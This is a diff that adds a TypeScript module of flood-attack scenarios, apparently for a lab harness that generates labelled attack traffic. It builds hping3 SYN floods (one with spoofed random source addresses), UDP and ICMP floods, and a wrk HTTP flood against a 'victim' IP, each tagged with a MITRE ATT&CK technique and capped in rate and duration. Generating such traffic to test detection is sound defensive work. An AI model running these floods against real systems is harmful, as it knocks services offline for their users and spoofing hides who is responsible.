@@ -1,0 +1,82 @@
+import type { Scenario, ScenarioContext } from '../scenario.js';
+
+/** Packets a second. The flood lasts at most this long, whatever --seconds says: its size is bounded twice. */
+const RATE_PPS = { slow: 200, normal: 2000, fast: 10_000 };
+const LONGEST_SECS = 20;
+
+interface Flood {
+  kind: string;
+  summary: string;
+  label: string;
+  technique: string;
+  flags: readonly string[];
+  forged?: boolean;
+}
+
+const FLOODS: readonly Flood[] = [
+  {
+    kind: 'syn',
+    summary: 'SYNs to port 80 from one address',
+    label: 'syn_flood',
+    technique: 'T1499.001',
+    flags: ['-S', '-p', '80'],
+  },
+  {
+    kind: 'syn-forged',
+    summary: 'SYNs to port 80 from random addresses',
+    label: 'syn_flood',
+    technique: 'T1499.001',
+    flags: ['-S', '-p', '80', '--rand-source'],
+    forged: true,
+  },
+  {
+    kind: 'udp',
+    summary: 'UDP to port 53',
+    label: 'udp_flood',
+    technique: 'T1498.001',
+    flags: ['--udp', '-p', '53', '-d', '400'],
+  },
+  {
+    kind: 'icmp',
+    summary: 'echo requests',
+    label: 'icmp_flood',
+    technique: 'T1498.001',
+    flags: ['--icmp', '-d', '64'],
+  },
+];
+
+function flood({ kind, summary, label, technique, flags, forged = false }: Flood): Scenario {
+  return {
+    name: `flood-${kind}`,
+    summary: `hping3: ${summary}`,
+    kind: 'attack',
+    services: ['web', 'dns'],
+    run: async (context) => {
+      const rate = context.at(RATE_PPS);
+      const count = rate * Math.min(context.seconds, LONGEST_SECS);
+      const [source = ''] = context.attackers();
+      const from = forged ? [] : ['-a', source];
+      const pace = ['-q', '-c', String(count), '-i', `u${Math.round(1e6 / rate)}`];
+      const facts = { label, technique, sources: forged ? [] : [source], targets: [context.victim.ip4] };
+      await context.attack(facts, 'attacker', 'hping3', [...pace, ...flags, ...from, context.victim.ip4]);
+    },
+  };
+}
+
+const http: Scenario = {
+  name: 'flood-http',
+  summary: 'wrk: requests as fast as the server answers',
+  kind: 'attack',
+  services: ['web'],
+  run: async (context: ScenarioContext) => {
+    const [source = ''] = context.attackers();
+    context.useSource('attacker', source);
+    const seconds = Math.min(context.seconds, LONGEST_SECS);
+    const connections = context.at({ slow: '5', normal: '50', fast: '200' });
+    const args = ['-t', '1', '-c', connections, '-d', `${seconds}s`, `http://${context.victim.ip4}/index.html`];
+    const facts = { label: 'http_flood', technique: 'T1499.002', sources: [source], targets: [context.victim.ip4] };
+    await context.attack(facts, 'attacker', 'wrk', args);
+  },
+};
+
+export const floods: readonly Scenario[] = [...FLOODS.map(flood), http];
